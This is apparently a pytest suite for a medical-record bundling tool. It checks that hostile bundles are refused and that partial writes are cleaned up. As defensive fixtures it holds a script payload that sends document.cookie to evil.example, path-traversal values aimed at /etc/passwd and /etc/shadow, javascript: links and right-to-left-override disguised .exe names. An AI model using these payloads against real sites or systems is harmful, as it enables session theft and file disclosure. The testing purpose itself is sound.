"""Issue 8, bundle side: what pack writes, open opens; open never shows untrusted content
as trusted; unwritable destinations, leftovers of killed runs, deceptive names, passphrases.

Patients and records here are invented.
"""

from __future__ import annotations

import errno
import hashlib
import json
import os
import random
import textwrap
import zipfile
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from recordpack import age
from recordpack.bundle import format as fmt
from recordpack.bundle.index_model import IndexSchemaError, parse_index, parse_index_text
from recordpack.bundle.pack import pack
from recordpack.bundle.reader import (
    DestinationWriteError,
    inspect_bundle,
    open_bundle,
    read_index,
    verify_bundle,
)
from recordpack.bundle.safety import BundleVerificationError
from recordpack.cli import main
from recordpack.display import printable
from recordpack.scan import scan_folder
from tests.leftover_helpers import dead_pid, kill_when_stalled
from tests.open_bundles import BAG, PAYLOAD, Sealer, bag_members, zip_bytes

RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: "report_\u202efdp.exe" reads as "report_exe.pdf"


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def listing(folder: Path) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*"))


# ---------------------------------------------------------------- defect 3: pack never
# writes what open refuses, whatever a record's size or compressibility.


def _records_of_every_kind_of_compressibility(root: Path) -> dict[str, bytes]:
    rng = random.Random(8)
    line = "2026-09-01,CEA,2.1,ng/mL,0-3,normal\n"
    files = {
        # A real lab export: 2 MB of nearly identical lines (deflates ~300-fold).
        "labs/lab-export.csv": ("date,test,value,unit,range,flag\n" + line * 58_000).encode(),
        # Zeros compress 1000-fold: the most extreme ratio deflate reaches.
        "labs/zeros.txt": bytes(3 * 1024 * 1024),
        # Random bytes under a text name: deflate makes them slightly larger.
        "notes/random.txt": rng.randbytes(300_000),
        "notes/empty.txt": b"",
        "notes/one-byte.txt": b"x",
        "notes/clinic-note.txt": b"CLINIC NOTE\nPatient: Avery Quill\nDate: 2026-09-02\n" * 40,
        "reports/scan.pdf": b"%PDF-1.4\n" + rng.randbytes(200_000) + b"\n%%EOF\n",
        "fhir/bundle.json": json.dumps(
            {"resourceType": "Bundle", "type": "collection", "entry": [{"x": "y" * 50}] * 4000}
        ).encode(),
    }
    for path, data in files.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_bytes(data)
    return files


def test_records_of_every_size_and_compressibility_pack_and_open(tmp_path: Path) -> None:
    """Defect 3: a 2 MB repetitive lab CSV packed fine and open called it "deliberately altered"."""
    source = tmp_path / "records"
    files = _records_of_every_kind_of_compressibility(source)
    identity = age.X25519Identity.generate()
    bundle = tmp_path / "b.rpk"
    pack(scan_folder(source), bundle, recipients=[identity.recipient()])

    verified = verify_bundle(bundle, [identity])
    result = open_bundle(bundle, [identity], tmp_path / "opened")
    by_original = {f["original"]: f for f in result.index["files"] if f["original"]}
    for original, data in files.items():
        if not data:
            continue  # an empty file is no record; scan may leave it out
        entry = by_original[original]
        assert (result.bag_dir / entry["path"]).read_bytes() == data, original
    assert verified.files == result.files
    # The lab export really was deflated (the case that used to be refused).
    with (
        open(bundle, "rb") as raw,
        zipfile.ZipFile(age.open_random_access(raw, [identity])) as archive,
    ):
        csv = by_original["labs/lab-export.csv"]["path"]
        member = archive.getinfo(f"{result.index['bag']}/{csv}")
        assert member.compress_type == zipfile.ZIP_DEFLATED
        assert member.file_size > 200 * member.compress_size > 0


# ---------------------------------------------------------------- defect 5: unwritable destination


@pytest.mark.parametrize(
    ("code", "words"),
    [
        (errno.EACCES, "permission denied"),
        (errno.EROFS, "read-only"),
        (errno.EPERM, "immutable"),
        (errno.ENOSPC, "disk is full"),
    ],
)
@pytest.mark.parametrize("where", ["folder", "file", "write"])
def test_open_into_a_folder_it_cannot_write_is_a_clear_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, code: int, words: str, where: str
) -> None:
    """CI runs as root, so chmod proves nothing: the OS error is simulated where it happens."""
    seal = Sealer(tmp_path)
    bundle = seal(zip_bytes(bag_members()))
    before = listing(tmp_path)
    error = OSError(code, os.strerror(code))

    import tempfile

    from recordpack.bundle import reader

    if where == "folder":  # the private temporary folder cannot be made
        monkeypatch.setattr(tempfile, "mkdtemp", lambda **_: (_ for _ in ()).throw(error))
    elif where == "file":  # a record's file cannot be created
        real_open = os.open

        def failing_open(path: Any, flags: int, *args: Any, **kwargs: Any) -> int:
            if str(path).endswith(".pdf"):
                raise error
            return real_open(path, flags, *args, **kwargs)

        monkeypatch.setattr(reader.os, "open", failing_open)  # type: ignore[attr-defined]
    else:  # the disk fills up half-way through a file

        def failing_write(self: Any, data: Any) -> int:
            raise error

        monkeypatch.setattr(reader._ExtractSink, "file", _failing_sink_file(error))

    result = CliRunner().invoke(
        main, ["open", str(bundle), "-i", str(_key_file(tmp_path, seal)), "-o", str(tmp_path / "o")]
    )
    assert result.exit_code == 1
    assert "Traceback" not in result.output and result.exception is not None
    assert isinstance(result.exception, SystemExit)
    assert words in result.stderr and "nothing was written" in result.stderr
    assert "hint:" in result.stderr
    assert listing(tmp_path) == sorted([*before, "key.txt"])  # nothing half-written

    with pytest.raises(DestinationWriteError):
        open_bundle(bundle, seal.identities, tmp_path / "o")


def _failing_sink_file(error: OSError) -> Any:
    import contextlib

    from recordpack.bundle.reader import _ExtractSink

    real = _ExtractSink.file

    @contextlib.contextmanager
    def file(self: Any, name: str) -> Any:
        with real(self, name) as write:

            def failing(data: bytes) -> None:
                write(data[:1])
                raise error

            yield failing

    return file


def _key_file(folder: Path, seal: Sealer) -> Path:
    path = folder / "key.txt"
    if not path.exists():
        path.write_text(f"{seal.identities[0]}\n")
    return path


# ---------------------------------------------------------------- defect 6: untrusted index.html


SCRIPTED = b"<!doctype html><script>location='https://evil.example/'+document.cookie</script>"


def test_a_shipped_scripted_index_html_is_replaced_and_said_so(tmp_path: Path) -> None:
    """The tag manifest matches the scripted page: verified, but never presented."""
    members = [(n, SCRIPTED if n == f"{BAG}/{fmt.INDEX_HTML}" else d) for n, d in bag_members()]
    # Rebuild the tag manifest so it matches the hostile page (as an attacker would).
    tags = {n.split("/", 1)[1]: d for n, d in members if n.count("/") == 1}
    tags.pop(fmt.TAGMANIFEST)
    tagmanifest = "".join(f"{sha(d)}  {n}\n" for n, d in tags.items()).encode()
    members = [(n, tagmanifest if n.endswith(fmt.TAGMANIFEST) else d) for n, d in members]
    seal = Sealer(tmp_path)
    bundle = seal(zip_bytes(members))

    verified = verify_bundle(bundle, seal.identities)
    # The hand-built bag's README is not recordpack's either (tests/open_bundles.py).
    assert [n.code for n in verified.notices] == ["index_html_replaced", "readme_replaced"]
    result = open_bundle(bundle, seal.identities, tmp_path / "opened")
    assert result.index_html_replaced
    page = result.index_html.read_bytes() if result.index_html else b""
    assert b"<script" not in page and b"evil.example" not in page
    assert b"TESTPERSON, JANE Q" in page  # recordpack's own rendering of the verified index
    assert "index_html_replaced" in [n.code for n in result.notices]

    key = _key_file(tmp_path, seal)
    cli = CliRunner().invoke(main, ["open", str(bundle), "-i", str(key), "-o", str(tmp_path / "c")])
    assert cli.exit_code == 0, cli.stderr
    assert "not the page recordpack renders" in cli.stderr
    assert "recordpack made this page itself" in cli.stdout


def test_a_pack_made_bundle_keeps_its_own_index_html(tmp_path: Path) -> None:
    source = tmp_path / "records"
    (source / "notes").mkdir(parents=True)
    (source / "notes" / "note.txt").write_bytes(b"CLINIC NOTE\nDate: 2026-09-02\nAll well.\n")
    identity = age.X25519Identity.generate()
    pack(scan_folder(source), tmp_path / "b.rpk", recipients=[identity.recipient()])
    result = open_bundle(tmp_path / "b.rpk", [identity], tmp_path / "opened")
    assert not result.index_html_replaced and result.notices == ()


def _index_with(patch: Any) -> bytes:
    index = json.loads(dict(bag_members())[f"{BAG}/index.json"])
    patch(index)
    return zip_bytes(bag_members(index_patch=patch))


HOSTILE_INDEXES: list[tuple[str, Any, str]] = [
    ("patient-not-object", lambda i: i.update(patient="x"), "patient must be an object"),
    ("files-not-list", lambda i: i.update(files=5), "files must be a list"),
    ("size-text", lambda i: i["files"][0].update(size="10"), "files[0].size must be a whole"),
    (
        "etc-passwd",
        lambda i: i["records"][0]["files"].__setitem__(0, "../../etc/passwd"),
        "'..'",
    ),
    ("etc-shadow", lambda i: i["files"][0].update(path="/etc/shadow"), "absolute"),
    (
        "javascript",
        lambda i: i["records"][0]["files"].__setitem__(0, "javascript:alert(1)"),
        "link (URL)",
    ),
    ("unknown-kind", lambda i: i["records"][0].update(kind="spell"), "not a kind of record"),
    ("unknown-status", lambda i: i["records"][0].update(status="final<b>"), "not a record status"),
    (
        "tag-file-as-record",
        lambda i: i["files"][0].update(path="manifest-sha256.txt"),
        "not a file under data/",
    ),
    ("bad-sha256", lambda i: i["files"][0].update(sha256="xyz"), "is not a SHA-256"),
    ("listed-twice", lambda i: i["files"].append(dict(i["files"][0])), "same path twice"),
    ("unknown-role", lambda i: i["files"][0].update(role="boss"), "not a role"),
    (
        "unlisted-link",
        lambda i: i["records"][0]["files"].__setitem__(0, "data/records/other.pdf"),
        "does not list",
    ),
    (
        "bidi-path",
        lambda i: i["duplicates"].append({"original": "a", "same_as": f"data/x{RLO}fdp.exe"}),
        "U+202E",
    ),
    ("deep-check", lambda i: i.update(check={"ok": True, "x": _deep(60)}), "nested deeper"),
    ("version", lambda i: i.update(version="1"), "has version '1'"),
    ("bad-sha1", lambda i: i["files"][0].update(sha1="xyz"), "is not a SHA-1"),
    (
        "summary-outside",
        lambda i: i.update(summary={"diagnosis": [{"value": "x", "path": "../../etc/passwd"}]}),
        "'..'",
    ),
    (
        "summary-javascript",
        lambda i: i.update(summary={"stage": [{"value": "x", "path": "javascript:alert(1)"}]}),
        "link (URL)",
    ),
    (
        "summary-script-object",
        lambda i: i.update(summary={"biomarkers": [{"result": {"script": "<script>"}}]}),
        "text or a number",
    ),
    (
        "timeline-unlisted",
        lambda i: i.update(timeline=[{"title": "x", "path": "data/records/other.pdf"}]),
        "does not list",
    ),
    (
        "preview-absolute",
        lambda i: i["records"][0].update(study={"previews": [{"path": "/etc/shadow"}]}),
        "absolute",
    ),
    ("created-not-a-date", lambda i: i.update(created="not a date"), "date and time"),
    ("record-date-impossible", lambda i: i["records"][0].update(date="9999-99-99"), "YYYY-MM-DD"),
    ("record-date-words", lambda i: i["records"][0].update(date="last week"), "YYYY-MM-DD"),
    (
        "birth-date-impossible",
        lambda i: i.update(patient={**i["patient"], "birth_date": "1962-02-30"}),
        "YYYY-MM-DD",
    ),
    (
        "preview-payload",
        lambda i: i["records"][0].update(study={"previews": [{"path": i["files"][0]["path"]}]}),
        "not a preview picture",
    ),
]


def _deep(depth: int) -> Any:
    value: Any = 1
    for _ in range(depth):
        value = [value]
    return value


@pytest.mark.parametrize(
    ("patch", "words"), [c[1:] for c in HOSTILE_INDEXES], ids=[c[0] for c in HOSTILE_INDEXES]
)
def test_hostile_index_is_refused_before_anything_is_extracted(
    tmp_path: Path, patch: Any, words: str
) -> None:
    seal = Sealer(tmp_path)
    bundle = seal(zip_bytes(bag_members(index_patch=patch)))
    before = listing(tmp_path)
    for attempt in (
        lambda: open_bundle(bundle, seal.identities, tmp_path / "opened"),
        lambda: verify_bundle(bundle, seal.identities),
        lambda: inspect_bundle(bundle, seal.identities),
    ):
        with pytest.raises(IndexSchemaError) as caught:
            attempt()
        assert words in str(caught.value), str(caught.value)
        assert caught.value.hint
    assert listing(tmp_path) == before


def test_a_preview_the_bag_does_not_hold_is_refused_before_anything_is_written(
    tmp_path: Path,
) -> None:
    """index.json may name only previews the tag manifest lists: nothing is extracted otherwise."""
    seal = Sealer(tmp_path)

    def patch(index: dict[str, Any]) -> None:
        index["records"][0]["study"] = {
            "previews": [{"modality": "CT", "path": "previews/001-001.png"}]
        }

    bundle = seal(zip_bytes(bag_members(index_patch=patch)))
    with pytest.raises(BundleVerificationError) as caught:
        open_bundle(bundle, seal.identities, tmp_path / "opened")
    assert "previews/001-001.png" in str(caught.value.problems)
    assert not (tmp_path / "opened").exists()


def test_100000_deep_index_is_a_refusal_not_a_recursion_error(tmp_path: Path) -> None:
    raw = b'{"version": 1, "files": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    with pytest.raises(IndexSchemaError, match="nested deeper"):
        parse_index_text(raw)
    index = json.loads(dict(bag_members())[f"{BAG}/index.json"])
    members = [(n, raw if n.endswith("/index.json") else d) for n, d in bag_members()]
    seal = Sealer(tmp_path)
    bundle = seal(zip_bytes(members))
    code, _, err = _cli(tmp_path, seal, "open", bundle, "-o", tmp_path / "opened")
    assert code == 1 and "nested deeper" in err and "Traceback" not in err
    assert not (tmp_path / "opened").exists() and index["version"] == 1


def test_cli_refuses_a_hostile_index_in_plain_words(tmp_path: Path) -> None:
    seal = Sealer(tmp_path)
    bundle = seal(zip_bytes(bag_members(index_patch=lambda i: i.update(files=5))))
    for command in ("open", "verify", "inspect"):
        code, out, err = _cli(tmp_path, seal, command, bundle, "--json")
        assert code == 1, err
        document = json.loads(out)
        assert document["ok"] is False and "files must be a list" in document["error"]["message"]
        assert "Traceback" not in err


def _cli(tmp_path: Path, seal: Sealer, *args: Any) -> tuple[int, str, str]:
    key = _key_file(tmp_path, seal)
    argv = [str(a) for a in args]
    result = CliRunner().invoke(main, [argv[0], argv[1], "-i", str(key), *argv[2:]])
    return result.exit_code, result.stdout, result.stderr


def test_pack_checks_its_own_index_with_the_same_schema() -> None:
    index = json.loads(dict(bag_members())[f"{BAG}/index.json"])
    model = parse_index(index)
    assert model.records[0].files == (next(iter(PAYLOAD)),)
    assert parse_index(model.to_json()) == model


# ---------------------------------------------------------------- defect 11: deceptive names


def test_bidi_and_control_characters_are_shown_escaped() -> None:
    assert printable(f"report_{RLO}fdp.exe") == "report_\\u202efdp.exe"
    assert printable("a\x1b[31mred") == "a\\x1b[31mred"
    assert printable("r\udce9sum\udce9.pdf") == "r\\xe9sum\\xe9.pdf"
    assert printable("Résumé – ok.pdf") == "Résumé – ok.pdf"


def test_bidi_name_is_mapped_at_pack_time_and_shown_escaped_everywhere(tmp_path: Path) -> None:
    """A portal zip named with U+202E: the bag path is safe, index.json keeps the real name."""
    source = tmp_path / "records"
    source.mkdir()
    name = f"portal_{RLO}piz.exe.zip"
    with zipfile.ZipFile(source / name, "w") as archive:
        archive.writestr("note.txt", "CLINIC NOTE\nDate: 2026-09-02\nAll well.\n")
    (source / f"lab_{RLO}vsc.txt").write_text("LAB RESULT\nDate: 2026-09-01\nCEA 2.1 ng/mL\n")
    identity = age.X25519Identity.generate()
    bundle = tmp_path / "b.rpk"
    pack(scan_folder(source), bundle, recipients=[identity.recipient()])
    result = open_bundle(bundle, [identity], tmp_path / "opened")
    paths = [f["path"] for f in result.index["files"]]
    assert all(RLO not in p for p in paths), paths
    assert name in [f["original"] for f in result.index["files"]]  # kept, as data
    page = (result.bag_dir / "index.html").read_text(encoding="utf-8")
    assert RLO not in page and "lab_\\u202evsc.txt" in page  # the real name, made visible
    assert RLO not in (result.bag_dir / "README.txt").read_text(encoding="utf-8")

    key = tmp_path / "key.txt"
    key.write_text(f"{identity}\n")
    shown = CliRunner().invoke(main, ["inspect", str(bundle), "-i", str(key)])
    assert shown.exit_code == 0 and RLO not in shown.stdout


def test_open_refuses_bidi_characters_in_member_names(tmp_path: Path) -> None:
    seal = Sealer(tmp_path)
    evil = f"{BAG}/data/records/report_{RLO}fdp.exe"
    from recordpack.bundle.safety import UnsafeMemberError

    with pytest.raises(UnsafeMemberError) as caught:
        open_bundle(
            seal(zip_bytes([*bag_members(), (evil, b"MZ")])),
            seal.identities,
            tmp_path / "o",
        )
    assert "U+202E" in str(caught.value) and RLO not in str(caught.value)
    assert not (tmp_path / "o").exists()


# ---------------------------------------------------------------- defect 12: scrypt once, weak factors


SECRET = "lantern-otter-quilt-maple-harbor-violin-toast"


def _passphrase_bundle(folder: Path, *, work_factor: int) -> Path:
    bundle = folder / "b.rpk"
    recipient = age.ScryptRecipient(SECRET, work_factor=work_factor)
    with open(bundle, "wb") as out, age.encrypt_writer(out, [recipient]) as writer:
        writer.write(zip_bytes(bag_members()))
    return bundle


def test_open_derives_the_passphrase_key_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from recordpack.age import scrypt

    bundle = _passphrase_bundle(tmp_path, work_factor=12)
    calls: list[int] = []
    real = scrypt._derive

    def counting(passphrase: str, salt: bytes, work_factor: int) -> bytes:
        calls.append(work_factor)
        return real(passphrase, salt, work_factor)

    monkeypatch.setattr(scrypt, "_derive", counting)
    open_bundle(bundle, [age.ScryptIdentity(SECRET)], tmp_path / "opened")
    assert calls == [12]
    calls.clear()
    verify_bundle(bundle, [age.ScryptIdentity(SECRET)])
    assert calls == [12]


def test_a_weak_scrypt_work_factor_is_warned_about(tmp_path: Path) -> None:
    bundle = _passphrase_bundle(tmp_path, work_factor=9)
    result = verify_bundle(bundle, [age.ScryptIdentity(SECRET)])
    replaced = ("index_html_replaced", "readme_replaced")  # hand-built pages, not the point here
    [notice] = [n for n in result.notices if n.code not in replaced]
    assert notice.code == "weak_passphrase_protection" and notice.params["work_factor"] == 9
    (tmp_path / "p.txt").write_text(SECRET + "\n")
    cli = CliRunner().invoke(
        main, ["open", str(bundle), "--passphrase-file", str(tmp_path / "p.txt"), "--json"]
    )
    assert cli.exit_code == 0, cli.stderr
    assert "work factor 9" in cli.stderr and "warning" in cli.stderr
    [warning] = [w for w in json.loads(cli.stdout)["warnings"] if "work_factor" in w]
    assert warning["work_factor"] == 9


@pytest.mark.parametrize("how", ["file", "env", "typed"])
@pytest.mark.parametrize("weak", ["password1", "Jane1970", "qwertyuiop"])
def test_weak_chosen_passphrases_are_refused_with_a_way_out(
    tmp_path: Path, how: str, weak: str
) -> None:
    source = tmp_path / "records"
    source.mkdir()
    (source / "note.txt").write_text("CLINIC NOTE\nDate: 2026-09-02\nAll well.\n")
    out = tmp_path / "b.rpk"
    args = ["pack", str(source), "-o", str(out)]
    env: dict[str, str] = {}
    given = ""
    if how == "file":
        (tmp_path / "p.txt").write_text(weak + "\n")
        args += ["--passphrase-file", str(tmp_path / "p.txt")]
    elif how == "env":
        env = {"RP_PASS": weak}
        args += ["--passphrase-env", "RP_PASS"]
    else:
        args += ["--passphrase"]
        given = f"n\n{weak}\n{weak}\n"
    result = CliRunner().invoke(main, args, env=env, input=given)
    assert result.exit_code == 2, result.stderr
    assert "too easy to guess" in result.stderr and "five or more random" in result.stderr
    suggestion = result.stderr.split("for example: ", 1)[1].split(".", 1)[0]
    from recordpack.passphrase import WORDS, judge_passphrase

    assert all(w in WORDS for w in suggestion.split("-")) and judge_passphrase(suggestion).strong
    assert not out.exists() and weak not in result.output


# ---------------------------------------------------------------- defect 9: kill -9 leftovers


_KILLABLE = textwrap.dedent(
    """
    import sys, time
    from pathlib import Path
    mode, bundle, target, marker, key = sys.argv[1:6]
    from recordpack import age
    import recordpack.bundle.reader as reader
    import recordpack.bundle.pack as packer

    def stall(real):
        def wrapper(*args, **kwargs):
            out = real(*args, **kwargs)
            Path(marker).write_text("started")
            time.sleep(600)
            return out
        return wrapper

    identity = age.parse_identity(Path(key).read_text().strip())
    if mode == "open":
        reader._copy_member = stall(reader._copy_member)
        reader.open_bundle(bundle, [identity], target)
    else:
        from recordpack.scan import scan_folder
        packer._copy_file = stall(packer._copy_file)
        packer.pack(scan_folder(bundle), Path(target), recipients=[identity.recipient()])
    """
)


def _kill_mid_run(tmp_path: Path, mode: str, source: Path, target: Path) -> None:
    marker = tmp_path / f"{mode}.started"
    kill_when_stalled(_KILLABLE, mode, source, target, marker, tmp_path / "key.txt", marker=marker)


def test_an_open_killed_with_sigkill_is_cleaned_up_by_the_next_open(tmp_path: Path) -> None:
    identity = age.X25519Identity.generate()
    (tmp_path / "key.txt").write_text(f"{identity}\n")
    bundle = tmp_path / "b.rpk"
    with open(bundle, "wb") as out, age.encrypt_writer(out, [identity.recipient()]) as writer:
        writer.write(zip_bytes(bag_members()))
    _kill_mid_run(tmp_path, "open", bundle, tmp_path / "opened")
    stale = [p for p in tmp_path.iterdir() if p.name.endswith(".partial")]
    assert len(stale) == 1 and stale[0].name.startswith(".opened.")
    assert any(p.is_file() for p in stale[0].rglob("*"))  # decrypted, unverified records

    cli = CliRunner().invoke(main, ["open", str(bundle), "-i", str(tmp_path / "key.txt")])
    assert cli.exit_code == 0, cli.stderr
    assert not stale[0].exists()
    assert "left by an interrupted earlier run" in cli.stderr and stale[0].name in cli.stderr


def test_a_pack_killed_with_sigkill_is_cleaned_up_by_the_next_pack(tmp_path: Path) -> None:
    identity = age.X25519Identity.generate()
    (tmp_path / "key.txt").write_text(f"{identity}\n")
    source = tmp_path / "records"
    source.mkdir()
    (source / "note.txt").write_text("CLINIC NOTE\nDate: 2026-09-02\nAll well.\n")
    out = tmp_path / "out"
    out.mkdir()
    _kill_mid_run(tmp_path, "pack", source, out / "b.rpk")
    stale = [p for p in out.iterdir() if p.name.endswith(".part")]
    assert len(stale) == 1 and stale[0].name.startswith(".b.rpk.")

    summary = pack(scan_folder(source), out / "b.rpk", recipients=[identity.recipient()])
    assert summary.leftovers.removed == (stale[0],)
    assert sorted(p.name for p in out.iterdir()) == ["b.rpk"]


def test_a_leftover_of_a_live_process_is_kept_and_named(tmp_path: Path) -> None:
    from recordpack.bundle.leftovers import sweep, temporary_name

    live = tmp_path / temporary_name("x.rpk", ".part", os.getppid())
    live.write_bytes(b"age-encryption.org/v1\nstill being written")
    foreign = tmp_path / ".notes.txt.part"  # not a name recordpack makes
    foreign.write_bytes(b"someone else's")
    other_kind = tmp_path / temporary_name("opened", ".partial", 4194305)  # open's, not pack's
    other_kind.mkdir()
    report = sweep(tmp_path, ".part")
    assert report.removed == () and [p for p, _ in report.kept] == [live]
    assert "may still be using it" in report.kept[0][1]
    assert live.exists() and foreign.exists() and other_kind.exists()


def test_read_index_is_the_typed_index(tmp_path: Path) -> None:
    seal = Sealer(tmp_path)
    index = read_index(seal(zip_bytes(bag_members())), seal.identities)
    assert index.patient.name == "TESTPERSON, JANE Q"
    assert index.check is not None and not index.check.ok
    assert {f.path for f in index.files} == set(PAYLOAD)


def test_another_users_leftover_is_kept_and_named(tmp_path: Path) -> None:
    from recordpack.bundle.leftovers import sweep, temporary_name

    if os.getuid() != 0:
        pytest.skip("only root can give a file to another user")  # CI runs as root
    theirs = tmp_path / temporary_name("x.rpk", ".part", dead_pid())
    theirs.write_bytes(b"someone else's interrupted pack")
    os.chown(theirs, 54321, 54321)
    report = sweep(tmp_path, ".part")
    assert report.kept == ((theirs, "it belongs to another user"),) and theirs.exists()


def test_pack_refuses_to_write_a_member_open_would_refuse() -> None:
    from recordpack.bundle.pack import _member
    from recordpack.errors import BundleError

    with pytest.raises(BundleError, match="recordpack would refuse to open"):
        _member(BAG, f"data/records/x{RLO}fdp.exe", False, 10, (2026, 1, 1, 0, 0, 0))
    with pytest.raises(BundleError, match="recordpack would refuse to open"):
        _member(BAG, "index.json", True, 300 * 1024 * 1024, (2026, 1, 1, 0, 0, 0))
